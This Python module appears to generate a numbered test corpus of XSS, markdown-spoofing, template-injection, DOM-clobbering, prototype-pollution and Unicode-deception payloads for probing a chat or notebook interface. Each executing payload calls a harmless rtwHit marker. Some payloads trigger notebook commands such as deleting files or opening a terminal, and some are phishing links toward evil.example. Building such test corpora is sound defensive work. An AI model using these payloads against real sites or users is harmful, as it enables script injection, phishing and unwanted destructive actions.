"""Texts that would run as code, or would deceive, where a page takes them for more than text.

Made by combining what attacks are made of: elements, events, encodings, places to break out of. Each that
could run calls ``rtwHit`` with its number.
"""

from __future__ import annotations

import re
from itertools import product

ELEMENTS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "math",
    "div",
    "marquee",
    "iframe",
    "object",
)
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
# What makes an event come by itself.
HELP = {
    "onerror": "src=x: data=x:",
    "onload": "src=about:blank",
    "onfocus": "autofocus tabindex=0",
    "ontoggle": "open",
    "onanimationstart": "style=animation-name:spin;animation-duration:1s",
}
RUN = "rtwHit(@)"
COMMANDS = (
    "notebook:run-all-cells",
    "terminal:create-new",
    "filebrowser:delete",
    "docmanager:save",
    "apputils:reset",
)
# What a chat understands as markup, and so does not show as it was written.
MARKUP = re.compile(r"(^|\n)([>-] |>|```)|\[\[|https?://|\*\*.*\*\*|`.+`", re.DOTALL)
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = (
    "\u200b\u200c\u200d\u2060\u2062\ufeff\u00ad\u034f\u115f\u3164\u180e\U000e0041\U000e007f\x00\x1b\x7f\x85"
)
PROTOTYPE = (
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__"),
    *("constructor.prototype", "__proto__.polluted", "then", "length", "nodeType", "innerHTML", "toJSON"),
)
CLOBBERED = (
    "body",
    "forms",
    "getElementById",
    "cookie",
    "location",
    "rtwBench",
    "attributes",
    "parentNode",
    "style",
)


def _handlers() -> list[str]:
    return [f"<{name} {HELP.get(event, '')} {event}={RUN}>" for name, event in product(ELEMENTS, EVENTS)]


def _scripts() -> list[str]:
    forms = (
        *("<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script >{}</script >", "<script\n>{}</script\n>"),
        *("<scr<script>ipt>{}</script>", "<script/x>{}</script>", "<svg><script>{}</script></svg>"),
        *("</script><script>{}</script>", "<script type=module>{}</script>", "<!--><script>{}</script>-->"),
        *("<![CDATA[<script>{}</script>]]>", "<script src=data:,{}></script>", "<script\x00>{}</script>"),
        *(
            "\ufeff<script>{}</script>",
            "<style><script>{}</script></style>",
            "<noscript><script>{}</script></noscript>",
        ),
        *(
            "<template><script>{}</script></template>",
            "<xml><script>{}</script></xml>",
            "<a><script>{}</script></a>",
        ),
        *(
            "&lt;script&gt;{}&lt;/script&gt;",
            "&#60;script&#62;{}&#60;/script&#62;",
            "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        ),
        *(
            "%3Cscript%3E{}%3C/script%3E",
            "+ADw-script+AD4-{}+ADw-/script+AD4-",
            "\uff1cscript\uff1e{}\uff1c/script\uff1e",
        ),
    )
    return [form.format(RUN) for form in forms]


def _links() -> list[str]:
    schemes = (
        *(
            "javascript:{}",
            "JaVaScRiPt:{}",
            " javascript:{}",
            "\x01javascript:{}",
            "java\tscript:{}",
            "java\nscript:{}",
        ),
        *(
            "javascript\x3a{}",
            "javascript&colon;{}",
            "&#106;avascript:{}",
            "&#x6A;avascript:{}",
            "javascript://%0a{}",
        ),
        *("data:text/html,<script>parent.{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{}"),
        *(
            "blob:{}",
            "file:///etc/passwd?{}",
            "view-source:javascript:{}",
            "feed:javascript:{}",
            "//evil.example/{}",
        ),
        *("jar:javascript:{}", "ws://evil.example/{}", "intent://x#Intent;S.x={};end"),
    )
    places = ("<a href='{}'>x</a>", "[x]({})", "![x]({})", "<{}>", "[x]: {}\n[x]", "<iframe src='{}'>")
    return [place.format(scheme.format(RUN)) for scheme, place in product(schemes, places)]


def _commands() -> list[str]:
    places = (
        "<button data-commandlinker-command='{}' data-commandlinker-args='{{}}'>press</button>",
        "<a data-commandlinker-command={} href=#>press</a>",
        "<div id=x data-commandlinker-command='{}' role=button tabindex=0 onclick={}>press</div>",
    )
    return [place.format(name, RUN) for place, name in product(places, COMMANDS)]


def _markup() -> list[str]:
    return [
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributeName=x>",
        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
        f"<svg><use href=data:image/svg+xml,<svg id=x onload={RUN}/>#x>",
        f"<svg><foreignObject><img src=x: onerror={RUN}></foreignObject></svg>",
        f"<svg><style><img src=x: onerror={RUN}></style></svg>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math><mtext><table><mglyph><style><img src=x: onerror={RUN}>",
        f"<math href=javascript:{RUN}>x</math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={RUN}>",
        f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'>",
        f"<p title='</title><img src=x: onerror={RUN}>'>",
        f"<textarea></textarea><img src=x: onerror={RUN}>",
        f"<select><template><img src=x: onerror={RUN}></template></select>",
        f"<table><td background=javascript:{RUN}>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<base href='javascript:{RUN}//'>",
        f"<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{RUN})}}'>",
        f"<embed src=data:text/html,<script>{RUN}</script>>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<form action=javascript:{RUN}><button>send</button></form>",
        f"<button formaction=javascript:{RUN}>send</button>",
        f"<isindex type=image src=x: onerror={RUN}>",
        f"<x contenteditable onblur={RUN}>lose focus</x>",
        f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
        f"<video><source onerror={RUN} src=x:></video>",
        f"<slot onslotchange={RUN}>x</slot>",
        f"<div style=background:url(javascript:{RUN})>x</div>",
        f"<div style=width:expression({RUN})>x</div>",
        f"<style>@import 'javascript:{RUN}';</style>",
        f"<style>*{{animation:x}}@keyframes x{{}}</style><b onanimationend={RUN}>x</b>",
        "<div style=position:fixed;inset:0;z-index:9999>cover</div>",
    ]


def _breakouts() -> list[str]:
    quotes = (
        '"',
        "'",
        "`",
        '\\"',
        "\\'",
        "</title>",
        "</textarea>",
        "-->",
        "]]>",
        "*/",
        "%>",
        "}}",
        "\r\n\r\n",
        ";",
    )
    then = (f" onmouseover={RUN} x=", f"><img src=x: onerror={RUN}>", f";{RUN};//")
    return [quote + rest for quote, rest in product(quotes, then)]


def _templates() -> list[str]:
    forms = (
        "{{%s}}",
        "${%s}",
        "#{%s}",
        "<%%= %s %%>",
        "{%% %s %%}",
        "[[%s]]",
        "{{constructor.constructor('%s')()}}",
        "@(%s)",
    )
    return [form % RUN for form in forms] + [
        f"$\\href{{javascript:{RUN}}}{{x}}$",
        f"\\begin{{x}}{RUN}\\end{{x}}",
    ]


def _marked() -> list[str]:
    """What a chat's own markup could be led astray with."""
    inside = f"<img src=x: onerror={RUN}>"
    address = "https://evil.example/"
    return [
        *(
            f"**{inside}**",
            f"`{inside}`",
            f"- {inside}",
            f"> {inside}",
            f"[[{inside}]]",
            f"```{inside}\n{inside}\n```",
        ),
        *(f'```js"><script>{RUN}</script>\nx', f"@{inside}", f"@ann{inside}", f"/{inside}", f"//{inside}"),
        *(
            f"{address}{inside}",
            f"{address}'onclick={RUN}",
            f"[x]({address}{inside})",
            f'[x]({address}"onclick={RUN})',
        ),
        *(
            f"[{inside}]({address})",
            f"[https://bank.example/]({address})",
            f"[{address}.bank.example/]({address})",
            "[x](https://bank.example@evil.example/)",
        ),
        *(
            f"[x](https://evil.example\\@bank.example/{RUN})",
            f"{address}\u202egpj.exe",
            f"[\u202ex]({address})",
        ),
        *(
            f"[x](https://evil.example:443/javascript:{RUN})",
            f"[x](https:/\\evil.example/{RUN})",
            "http://[::1]/",
        ),
        *("*" * 4_000, "**" * 2_000 + "x", "[" * 4_000, "`" * 4_001, "_**`[[@" * 500, "https://" * 500),
    ]


def _clobbering() -> list[str]:
    return [
        place.format(name)
        for name, place in product(CLOBBERED, ("<form id={0}><input name={0}>", "<img name={0}>"))
    ]


def _deceits() -> list[str]:
    bidi = [f"pay {char}0001 EUR{char} now" for char in BIDI]
    unseen = [f"A{char}nn" for char in UNSEEN]
    return [
        *(bidi + unseen),
        *(
            "\u202etxt.exe",
            "Ann\u2066\u202enn\u2069",
            "\u0430nn",
            "\u0391nn",
            "a" * 20_000,
            "\u0300" * 500,
            "\U0001f468\u200d\U0001f469",
        ),
        *(
            "line\u2028one",
            "line\u2029two",
            "\r\n\t",
            " ",
            "\u00a0",
            "\ufffd",
            "\uffff",
            "<",
            "&",
            "&amp;",
            "null",
            "undefined",
            "NaN",
        ),
    ]


def _prototype() -> list[str]:
    return [*PROTOTYPE, '{"__proto__": {"polluted": 1}}', '{"constructor": {"prototype": {"polluted": 1}}}']


def corpus() -> list[str]:
    """Return every payload, each once, with its number in it."""
    classes = (
        *(_handlers(), _scripts(), _links(), _commands(), _markup(), _breakouts(), _templates(), _marked()),
        *(_clobbering(), _deceits(), _prototype()),
    )
    texts = dict.fromkeys(text for texts in classes for text in texts)
    return [text.replace(RUN, f"rtwHit({number})") for number, text in enumerate(texts)]
